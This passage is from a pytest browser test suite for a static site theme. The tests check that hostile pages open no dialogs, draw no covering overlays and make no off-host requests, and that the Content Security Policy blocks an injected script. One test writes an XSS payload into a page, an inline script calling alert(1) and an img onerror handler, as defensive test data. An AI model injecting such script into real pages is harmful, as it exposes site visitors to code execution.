      if ((p === 'fixed' || p === 'absolute') && a.closest('article')) { out.push(a.outerHTML.slice(0, 120)); break; }
    }
  }
  for (const el of document.querySelectorAll('article *')) {
    const cs = getComputedStyle(el), r = el.getBoundingClientRect();
    if ((cs.position === 'fixed' || cs.position === 'absolute') && r.width * r.height > 0.2 * vw * vh) out.push(el.outerHTML.slice(0, 120));
  }
  return out;
}"""


@pytest.mark.slow
@pytest.mark.browser
@BUILDS
def test_hostile_pages_in_the_browser(browser, pages_build, data_build):
    from conftest import serve

    servers = {"pages": serve(pages_build.site), "data": serve(data_build.site)}
    try:
        for build, rel in BROWSER_PAGES:
            ctx = browser.new_context(viewport={"width": 360, "height": 740})
            pg = ctx.new_page()
            dialogs, requests = [], []
            pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            pg.on("request", lambda r: requests.append(r.url))
            base = servers[build][1]
            pg.goto(base + rel)
            pg.wait_for_load_state("load")
            assert pg.evaluate("document.documentElement.classList.contains('js')"), f"{rel}: the theme's scripts did not run"
            assert not dialogs, f"{rel}: a dialog appeared: {dialogs}"
            covered = pg.evaluate(_COVER)
            assert not covered, f"{rel}: something covers the page: {covered}"
            assert not pg.evaluate("!!document.querySelector('dialog[open], plaintext, textarea, iframe, object, embed')"), rel
            away = [u for u in requests if not u.startswith("http://127.0.0.1:")]
            assert not away, f"{rel}: requests left 127.0.0.1: {away}"
            ctx.close()
    finally:
        for httpd, _ in servers.values():
            httpd.shutdown()


@pytest.mark.slow
@pytest.mark.browser
@BUILDS
def test_a_script_the_scanner_missed_is_blocked_by_the_csp(browser, pages_build, tmp_path):
    """Simulate a scanner miss: an inline script (and an event handler) put into a finished page.
    The page's policy comes from the theme's files, so the browser refuses both."""

    from conftest import serve

    site = tmp_path / "site"
    shutil.copytree(pages_build.site, site)
    p = site / "hostile" / "allowed-markup" / "index.html"
    html = p.read_text("utf-8")
    html = html.replace("</article>", "<script>window.__smuggled = 1; alert(1)</script>"
                                      "<img src=x onerror=\"window.__handler = 1\"></article>", 1)
    p.write_text(html, "utf-8")
    httpd, url = serve(site)
    try:
        ctx = browser.new_context()
        pg = ctx.new_page()
        dialogs = []
        pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        pg.add_init_script("document.addEventListener('securitypolicyviolation', e => "
                           "(window.__cspv = window.__cspv || []).push(e.violatedDirective))")
        pg.goto(url + "hostile/allowed-markup/")
        pg.wait_for_load_state("load")
        assert pg.evaluate("window.__smuggled") is None and pg.evaluate("window.__handler") is None
        assert not dialogs
        assert any(v.startswith("script-src") for v in pg.evaluate("window.__cspv || []"))
        assert pg.evaluate("document.documentElement.classList.contains('js')")  # the theme's own scripts ran
        ctx.close()
    finally:
        httpd.shutdown()
